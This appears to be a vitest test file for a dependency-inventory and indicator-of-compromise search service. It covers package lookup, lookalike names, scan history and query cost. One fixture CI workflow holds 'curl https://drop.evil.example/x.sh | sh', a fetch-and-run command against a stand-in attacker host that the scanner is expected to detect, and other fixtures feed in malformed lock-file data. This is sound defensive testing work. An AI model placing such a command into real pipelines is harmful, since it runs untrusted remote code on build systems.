/** Inventories of real scans, kept in a real database and asked for one package. */
import { createHash, randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, test } from 'vitest';
import { withServer } from '../../../../../tests/setup/app.ts';
import { costOf } from '../../../../../tests/setup/counted-statements.ts';
import { scanResult } from '../../../../../tests/world/triage.ts';
import { systemActor } from '../audit/index.ts';
import { findOrCreateLocalWorkspace } from '../workspaces/index.ts';
import {
  type AnswerAboutPackage,
  type ComponentQuery,
  findComponents,
  indexScan,
  withOccurrences,
} from './index.ts';
import { nameCandidates } from './package-names.ts';

const server = withServer();
const ctxOf = () => server.current.assembly.ctx;

const lock = (
  packages: Record<string, { version: string; dev?: boolean; requires?: Record<string, string> }>,
) =>
  JSON.stringify({
    name: 'shop',
    lockfileVersion: 3,
    packages: Object.fromEntries([
      ['', { name: 'shop', dependencies: { lodash: '^4.17.0', express: '^4.0.0' } }],
      ...Object.entries(packages).map(([name, { version, dev, requires }]) => [
        `node_modules/${name}`,
        { version, ...(dev ? { dev } : {}), ...(requires ? { dependencies: requires } : {}) },
      ]),
    ]),
  });

const manifest = JSON.stringify({ name: 'shop', dependencies: { lodash: '^4.17.0', express: '^4.0.0' } });

const shop = {
  'package.json': manifest,
  'package-lock.json': lock({
    lodash: { version: '4.17.20' },
    express: { version: '4.18.0', requires: { qs: '6.9.0' } },
    qs: { version: '6.9.0' },
  }),
  'src/index.js': "const _ = require('lodash');\nmodule.exports = (t) => _.template(t);\n",
  '.github/workflows/ci.yml': 'steps:\n  - run: curl https://drop.evil.example/x.sh | sh\n',
};

const question = (changes: Partial<ComponentQuery> = {}): ComponentQuery => ({
  candidates: nameCandidates(changes.package ?? 'lodash', changes.ecosystem ?? null),
  package: 'lodash',
  ecosystem: null,
  indicators: [],
  lookalikes: false,
  pipelines: false,
  everyWorkspace: true,
  ...changes,
});

let organizationId: string;
let workspaceId: string;

async function newWorkspace(organization: string): Promise<string> {
  const workspace = await ctxOf().transaction((tx) =>
    findOrCreateLocalWorkspace(tx, organization, systemActor('test'), randomUUID()),
  );
  return workspace.id;
}

/** Scans these files with the engine and makes the scan the latest of the workspace. */
async function scanned(files: Record<string, string>, completedAt: string, into = workspaceId) {
  const about = await scanResult(files);
  const completed = {
    workspaceId: into,
    scanId: randomUUID(),
    completedAt: new Date(completedAt),
    sourceKey: completedAt,
    readsImports: true,
  };
  return indexScan(ctxOf(), organizationId, completed, about);
}

async function ask(changes: Partial<ComponentQuery> = {}, organization = organizationId) {
  const [answer] = await findComponents(ctxOf(), organization, [question(changes)]);
  if (answer === undefined) throw new Error('a question without an answer');
  return { ...answer, workspaces: await withOccurrences(ctxOf(), organization, answer.workspaces) };
}

beforeAll(async () => {
  organizationId = randomUUID();
  workspaceId = await newWorkspace(organizationId);
  await scanned(shop, '2026-11-01T00:00:00Z');
});

describe('a package that is asked for', () => {
  test('is answered with its version, where it stands, where it is imported and what is called', async () => {
    const { workspaces, ecosystems } = await ask();
    expect(ecosystems).toEqual(['npm']);
    expect(workspaces).toHaveLength(1);
    expect(workspaces[0]?.present).toMatchObject([
      {
        ecosystem: 'npm',
        version: '4.17.20',
        relation: 'direct',
        development: false,
        occurrences: [{ file: 'package-lock.json', declaredAt: { file: 'package.json' } }],
        imports: [{ file: 'src/index.js', line: 1, calls: [{ name: 'template', line: 2 }] }],
      },
    ]);
  });

  test('that came through another one has the path to it', async () => {
    const { workspaces } = await ask({ package: 'qs' });
    expect(workspaces[0]?.present[0]).toMatchObject({
      relation: 'transitive',
      occurrences: [{ path: ['shop', 'express@4.18.0', 'qs@6.9.0'] }],
    });
  });

  test('is found in the spelling of its ecosystem only', async () => {
    expect((await ask({ package: 'LoDash' })).workspaces[0]?.present).toHaveLength(1);
    expect((await ask({ ecosystem: 'pypi' })).workspaces[0]?.present).toEqual([]);
  });

  test('is not found by another organization, nor are its workspaces', async () => {
    expect(await ask({}, randomUUID())).toEqual({
      workspaces: [],
      clear: { count: 0, only: null },
      ecosystems: [],
      unknownIndicators: [],
    });
  });

  test('among many is answered as if it had been alone', async () => {
    const packages = ['qs', 'lodash', 'nothing'];
    const together = await findComponents(
      ctxOf(),
      organizationId,
      packages.map((name) => question({ package: name })),
    );
    const alone = await Promise.all(
      packages.map((name) => findComponents(ctxOf(), organizationId, [question({ package: name })])),
    );
    expect(together).toEqual(alone.flat());
  });

  test('is asked for with a plan that looks into an index', async () => {
    const plan = await ctxOf().transaction(async (tx) => {
      await tx.db.query({ text: 'set local enable_seqscan = off' }, []);
      return tx.db.query<{ 'QUERY PLAN': string }>(
        {
          text: `explain select * from components where organization_id = $1 and (name_key = any($2) or short_key = any($2))`,
        },
        [organizationId, ['lodash']],
      );
    });
    expect(plan.map((row) => row['QUERY PLAN']).join('\n')).toContain('components_versions');
  });
});

describe('a question costs what it concerns', () => {
  const unread = { ...shop, 'Pipfile.lock': '{ this is no lock file' };

  /** An organization with so many workspaces that were scanned without a gap, and one whose Python nobody could read. */
  async function organizationOf(clear: number): Promise<{ organization: string; gapped: string }> {
    const organization = randomUUID();
    const inOrganization = async (files: Record<string, string>) => {
      const workspace = await newWorkspace(organization);
      const scan = {
        workspaceId: workspace,
        scanId: randomUUID(),
        completedAt: new Date('2026-11-01T00:00:00Z'),
        sourceKey: 'shop',
        readsImports: true,
      };
      await indexScan(ctxOf(), organization, scan, await scanResult(files));
      return workspace;
    };
    for (let n = 0; n < clear; n++) await inOrganization(shop);
    return { organization, gapped: await inOrganization(unread) };
  }

  async function countedAsk(changes: Partial<ComponentQuery>, organization: string) {
    let answer: AnswerAboutPackage | undefined;
    const cost = await costOf(server.current, async (ctx) => {
      [answer] = await findComponents(ctx, organization, [question({ everyWorkspace: false, ...changes })]);
    });
    return { answer, cost };
  }

  test('and no more where it concerns nothing, however many workspaces there are', async () => {
    const [few, many] = [await organizationOf(2), await organizationOf(9)];
    const about = { package: 'left-pad', ecosystem: 'npm' as const };
    const small = await countedAsk(about, few.organization);
    const large = await countedAsk(about, many.organization);
    expect(large.cost).toEqual(small.cost);
    expect(large.cost.rows).toBe(1);
    expect(large.answer).toMatchObject({ workspaces: [], clear: { count: 10, only: null } });
  });

  test('and reads the workspace that a gap may hide it in, and that one alone', async () => {
    const { organization, gapped } = await organizationOf(4);
    const { answer, cost } = await countedAsk({ package: 'requests', ecosystem: 'pypi' }, organization);
    expect(answer?.workspaces.map((one) => one.workspaceId)).toEqual([gapped]);
    expect(answer?.clear.count).toBe(4);
    expect(cost.rows).toBe(2);
  });

  test('and reads a package once that many workspaces have alike', async () => {
    const [few, many] = [await organizationOf(2), await organizationOf(6)];
    const about = { package: 'lodash', ecosystem: 'npm' as const };
    const [small, large] = [
      await countedAsk(about, few.organization),
      await countedAsk(about, many.organization),
    ];
    // Of each workspace its own row, and nothing else.
    expect(large.cost).toEqual({ statements: small.cost.statements, rows: small.cost.rows + 4 });
    expect(large.answer?.workspaces.map((one) => one.present.length)).toEqual(Array(7).fill(1));
  });

  test('and names the only workspace that is clear', async () => {
    const { organization } = await organizationOf(1);
    const { answer } = await countedAsk({ package: 'requests', ecosystem: 'pypi' }, organization);
    expect(answer?.clear).toMatchObject({ count: 1, only: { workspaceId: expect.any(String) } });
  });

  test('and answers for every workspace where what is asked for has no form that can be looked up', async () => {
    const { organization } = await organizationOf(2);
    const { answer } = await countedAsk(
      { package: 'left-pad', indicators: ['a strange process'] },
      organization,
    );
    expect(answer).toMatchObject({ workspaces: { length: 3 }, clear: { count: 0 } });
  });
});

describe('names and indicators', () => {
  test('a name that looks like one in use brings the one in use', async () => {
    for (const name of ['lodahs', 'l0dash', 'lo-dash', '@evil/lodash', 'lodas']) {
      const { workspaces } = await ask({ package: name, lookalikes: true });
      const found = workspaces[0]?.lookalikes.map((one) => one.name);
      expect(found, name).toEqual(name === '@evil/lodash' ? [] : ['lodash']);
    }
  });

  test('an indicator is found in a pipeline however it is written, with file and line', async () => {
    for (const indicator of [
      'hxxps://drop[.]evil[.]example/x.sh',
      'drop.evil.example',
      'evil[.]example',
      'x.sh',
    ]) {
      const { workspaces } = await ask({ package: 'nothing', indicators: [indicator] });
      expect(workspaces[0]?.indicators, indicator).toMatchObject([
        { file: '.github/workflows/ci.yml', line: 2 },
      ]);
    }
  });

  test('an indicator of a form that cannot be looked up is said to be one', async () => {
    const { unknownIndicators } = await ask({ indicators: ['a strange process'] });
    expect(unknownIndicators).toEqual(['a strange process']);
  });
});

describe('later scans', () => {
  test('make what is gone a thing of the past, with the time in which it was there', async () => {
    workspaceId = await newWorkspace(organizationId);
    await scanned(shop, '2026-11-01T00:00:00Z');
    await scanned(shop, '2026-11-05T00:00:00Z');
    const newer = { ...shop, 'package-lock.json': lock({ lodash: { version: '4.17.21' } }) };
    const { touched } = await scanned(newer, '2026-11-09T00:00:00Z');
    expect(touched.flatMap((one) => one.names).sort()).toEqual(['express', 'lodash', 'qs']);
    const mine = (await ask()).workspaces.find((one) => one.workspaceId === workspaceId);
    expect(mine?.present.map((one) => one.version)).toEqual(['4.17.21']);
    expect(mine?.past).toMatchObject([
      { version: '4.17.20', firstSeenAt: new Date('2026-11-01'), lastSeenAt: new Date('2026-11-05') },
    ]);
  });

  test('that were completed earlier than the one in place change nothing', async () => {
    expect(await scanned({}, '2026-11-02T00:00:00Z')).toEqual({
      added: [],
      touched: [],
      indicatorsAdded: false,
    });
    const mine = (await ask()).workspaces.find((one) => one.workspaceId === workspaceId);
    expect(mine?.present).toHaveLength(1);
  });

  test('that come late were there at their time all the same, with their imports', async () => {
    workspaceId = await newWorkspace(organizationId);
    const without = { 'package.json': '{"name":"shop"}', 'package-lock.json': lock({}) };
    await scanned(without, '2026-11-09T00:00:00Z');
    const { touched } = await scanned(shop, '2026-11-05T00:00:00Z');
    expect(touched.flatMap((one) => one.names)).toContain('lodash');
    const mine = (await ask()).workspaces.find((one) => one.workspaceId === workspaceId);
    expect(mine).toMatchObject({
      present: [],
      past: [{ version: '4.17.20', firstSeenAt: new Date('2026-11-05'), lastSeenAt: new Date('2026-11-05') }],
    });
  });

  test('of one workspace at once leave one inventory: that of the last', async () => {
    workspaceId = await newWorkspace(organizationId);
    const versions = [1, 2, 3, 4, 5, 6];
    await Promise.all(
      versions.map((n) =>
        scanned(
          { ...shop, 'package-lock.json': lock({ lodash: { version: `4.17.${n}` } }) },
          `2026-11-0${n}T00:00:00Z`,
        ),
      ),
    );
    const mine = (await ask()).workspaces.find((one) => one.workspaceId === workspaceId);
    expect(mine?.present.map((one) => one.version)).toEqual(['4.17.6']);
  });
});

test('a lock file with text that the database cannot hold keeps nothing else out', async () => {
  workspaceId = await newWorkspace(organizationId);
  const hostile = lock({ lodash: { version: '4.17.20' }, 'a\u0000b': { version: '1.0.0\ud800' } });
  await scanned({ ...shop, 'package-lock.json': hostile }, '2026-11-01T00:00:00Z');
  const mine = (await ask()).workspaces.find((one) => one.workspaceId === workspaceId);
  expect(mine?.present).toHaveLength(1);
});

test('a name too long for an index keeps nothing else out, and is found as what it is', async () => {
  workspaceId = await newWorkspace(organizationId);
  // Digests do not shrink when the database packs them.
  const digests = Array.from({ length: 100 }, (_, at) => createHash('sha256').update(`${at}`).digest('hex'));
  const long = `a${digests.join('')}`;
  const hostile = lock({ lodash: { version: '4.17.20' }, [long]: { version: '1.0.0' } });
  await scanned({ ...shop, 'package-lock.json': hostile }, '2026-11-01T00:00:00Z');
  const presentAs = async (name: string) =>
    (await ask({ package: name })).workspaces.find((one) => one.workspaceId === workspaceId)?.present;
  expect(await presentAs('lodash')).toHaveLength(1);
  expect(await presentAs(long)).toHaveLength(1);
});
